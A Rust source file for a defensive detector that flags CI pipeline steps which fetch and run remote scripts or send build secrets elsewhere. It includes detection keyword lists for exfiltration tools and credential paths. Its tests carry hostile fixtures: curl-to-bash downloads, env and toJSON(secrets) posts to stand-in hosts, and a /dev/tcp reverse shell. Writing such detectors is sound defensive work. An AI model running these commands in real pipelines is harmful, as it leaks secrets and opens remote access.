//! Detector: a build pipeline in a repository fetches and runs something, or hands secrets on.

use crate::reach::{self, Reach};
use crate::weigh::{self, Files, Weight};
use crate::{Card, Detector, Draft, Tables};
use calma_record::kinds::{StartupCommand, SystemSetting};
use calma_record::{Severity, Text};
use std::collections::BTreeSet;

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "pipeline-command",
        doc: "A build pipeline in a repository (GitLab, GitHub, Gitea, Drone, Jenkins and others) runs something odd, or hands its secrets on.",
        mechanisms: &[76],
        attack: &["T1195.002", "T1552", "T1072"],
        why: "It runs with every build, with the project's secrets, and what it does ends up in what is delivered.",
        innocent: "your team wrote it, to install a tool or to tell another service of the build",
        next: "look into the repository's history who added the line; if nobody did, change every secret the pipeline knew",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    let files = Files::new(tables);
    let all_secrets: BTreeSet<&Text> = tables
        .of::<SystemSetting>()
        .filter(|row| row.area == "pipeline" && row.name == "all-secrets")
        .map(|row| &row.fact.path)
        .collect();
    for row in tables.of::<StartupCommand>().filter(|row| row.mechanism == "pipeline") {
        let command = row.command.as_bytes();
        let mut weight = weigh::command(&files, &row.command, row.as_root);
        // Installers of tools are fetched and run like this by many.
        if weight.paths.is_empty() && known_installers(command) {
            weight.severity = weight.severity.map(|severity| severity.min(Severity::Info));
        }
        weight = weight.and(hands_on(command, all_secrets.contains(&row.fact.path)));
        if row.package.is_some() && weight.severity < Some(Severity::Medium) {
            continue;
        }
        let identity = [row.path.as_bytes(), b"\0", command].concat();
        let title = "A build pipeline does something odd".to_owned();
        drafts.extend(weigh::draft(weight, &identity, title, &row.path, row.line, &row.command, &row));
    }
}

/// Hosts of the addresses in a text, and whether all are asked over TLS.
fn hosts(text: &[u8]) -> (Vec<&[u8]>, bool) {
    let mut all = Vec::new();
    let mut safe = true;
    for (at, _) in text.windows(3).enumerate().filter(|(_, window)| *window == b"://") {
        safe &= text.get(..at).unwrap_or_default().ends_with(b"https");
        let rest = text.get(at + 3..).unwrap_or_default();
        let end = rest.iter().position(|b| b" \t\n/\"'?)|;`".contains(b)).unwrap_or(rest.len());
        all.push(reach::host(rest.get(..end).unwrap_or_default()));
    }
    (all, safe)
}

fn known_installers(text: &[u8]) -> bool {
    const KNOWN: &[&[u8]] = &[
        b"rustup.rs",
        b"docker.com",
        b"githubusercontent.com",
        b"github.com",
        b"gitlab.com",
        b"nodesource.com",
        b"helm.sh",
        b"codecov.io",
        b"astral.sh",
        b"python-poetry.org",
        b"pypa.io",
        b"deno.land",
        b"bun.sh",
        b"pnpm.io",
        b"nixos.org",
        b"k3s.io",
        b"getcomposer.org",
        b"microsoft.com",
        b"google.com",
        b"googleapis.com",
        b"amazonaws.com",
        b"fly.io",
        b"foundry.paradigm.xyz",
        b"sdkman.io",
        b"haskell.org",
        b"rvm.io",
        b"coursier.io",
        b"golangci-lint.run",
        b"snyk.io",
        b"sentry.io",
        b"debian.org",
        b"ubuntu.com",
        b"chef.io",
        b"hashicorp.com",
    ];
    let (hosts, safe) = hosts(text);
    safe && !hosts.is_empty()
        && hosts.iter().all(|host| {
            KNOWN.iter().any(|known| {
                host.strip_suffix(*known).is_some_and(|rest| rest.is_empty() || rest.ends_with(b"."))
            })
        })
}

/// Secrets of the build, or its whole environment, sent to another machine.
fn hands_on(text: &[u8], all_secrets: bool) -> Weight {
    let has = |part: &[u8]| weigh::contains(text, part);
    let any = |parts: &[&[u8]]| parts.iter().any(|part| has(part));
    let words: Vec<&[u8]> =
        text.split(|b| b" \t\n|;&()`".contains(b)).filter(|word| !word.is_empty()).collect();
    let says = |word: &[u8]| words.contains(&word);
    let sends = (says(b"curl")
        && words.iter().any(|word| {
            word.starts_with(b"--data")
                || word.starts_with(b"--form")
                || word.starts_with(b"--upload-file")
                || (word.starts_with(b"-")
                    && !word.starts_with(b"--")
                    && word.iter().any(|b| b"dFT".contains(b)))
        }))
        || (says(b"wget") && any(&[b"--post-", b"--body-"]))
        || ["nc", "ncat", "netcat", "scp", "dig", "nslookup"].iter().any(|name| says(name.as_bytes()))
        || any(&[b"/dev/tcp/", b"openssl s_client"])
        || (any(&[b"curl", b"wget"]) && any(&[b"=$(", b"=`", b"/$("]));
    if !sends {
        return Weight::default();
    }
    let listing = says(b"printenv")
        || says(b"env")
        || says(b"declare")
        || any(&[
            b"export -p",
            b"/proc/self/environ",
            b"/environ",
            b"process.env",
            b"os.environ",
            b".git/config",
        ]);
    let upper = text.to_ascii_uppercase();
    let named = any(&[
        b"secrets.",
        b"toJSON(secrets",
        b"toJson(secrets",
        b".ssh/",
        b".aws/credentials",
        b".npmrc",
        b".kube/config",
        b".docker/config",
    ]) || [&b"_TOKEN"[..], b"_SECRET", b"PASSWORD", b"_KEY", b"CREDENTIALS"]
        .iter()
        .any(|part| weigh::contains(&upper, part));
    let encoded = any(&[b"base64", b"xxd", b"gzip", b"openssl enc", b"gpg", b"rev", b"od -"]);
    let (hosts, safe) = hosts(text);
    let bare = hosts.iter().any(|host| reach::of(host) == Reach::Public) || (!safe && !hosts.is_empty());
    let whole = listing || all_secrets || any(&[b"toJSON(secrets", b"toJson(secrets"]);
    if whole {
        Weight::of(Severity::Medium, "it sends the build's environment or all its secrets to another machine")
    } else if named && (encoded || bare) {
        Weight::of(
            Severity::Medium,
            "it sends a secret of the build to another machine, disguised or in the open",
        )
    } else {
        Weight::default()
    }
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    #[test]
    fn odd_pipelines_are_found_in_every_service() {
        for (path, text) in [
            (
                "/srv/shop/.gitlab-ci.yml",
                "build:\n  script:\n    - make\n    - curl -fsSL http://192.0.2.1/a | bash\n",
            ),
            ("/srv/a/b/.gitlab-ci.yml", "before_script:\n  - wget -qO- https://cdn.x.example/i.sh | sh\n"),
            (
                "/var/www/html/.github/workflows/x.yml",
                "jobs:\n  a:\n    steps:\n      - run: env | base64 | curl -s -d @- https://x.example.net/c\n",
            ),
            (
                "/home/me/p/.github/workflows/x.yaml",
                "jobs:\n  a:\n    steps:\n      - run: |\n          echo \"$ALL\" > a\n          curl --data-binary @a https://x.example.net/c\n        env:\n          ALL: ${{ toJSON( secrets ) }}\n",
            ),
            ("/opt/p/Jenkinsfile", "node { sh '''\n/var/lib/.x/a &\n''' }\n"),
            (
                "/opt/p/.drone.yml",
                "steps:\n- name: a\n  commands:\n  - bash -i >& /dev/tcp/192.0.2.1/1 0>&1\n",
            ),
            (
                "/srv/p/.github/workflows/k.yml",
                "jobs:\n  a:\n    steps:\n      - run: curl -F k=${{ secrets.DEPLOY_KEY }} http://192.0.2.9/k\n",
            ),
        ] {
            let mem = Mem::new().file("/etc/passwd", "me:x:1000:1000::/home/me:/bin/sh\n");
            let seen = check(mem.file(path, text));
            let found = seen.alarms("pipeline-command");
            assert_eq!(found.len(), 1, "{path}: {:#?}", seen.findings);
            assert!(format!("{:?}", found[0].subjects).contains(path));
        }
    }

    #[test]
    fn ordinary_pipelines_are_quiet() {
        let seen = check(
            Mem::new()
                .file("/srv/a/.gitlab-ci.yml", "image: rust\ntest:\n  script:\n    - apt-get update && apt-get install -y cmake\n    - curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\n    - cargo test\n  only: [main]\ndeploy:\n  script:\n    - rsync -a dist/ deploy@web:/var/www/html/\n    - 'curl -X POST -d \"{}\" -H \"PRIVATE-TOKEN: $CI_TOKEN\" https://gitlab.example.org/api'\n")
                .file("/srv/b/.github/workflows/ci.yml", "jobs:\n  a:\n    steps:\n      - run: npm ci\n      - run: |\n          docker build -t x .\n          echo \"${{ secrets.PW }}\" | docker login -u me --password-stdin\n      - run: bash <(curl -s https://codecov.io/bash)\n"),
        );
        assert!(seen.by("pipeline-command").is_empty(), "{:#?}", seen.by("pipeline-command"));
    }
}
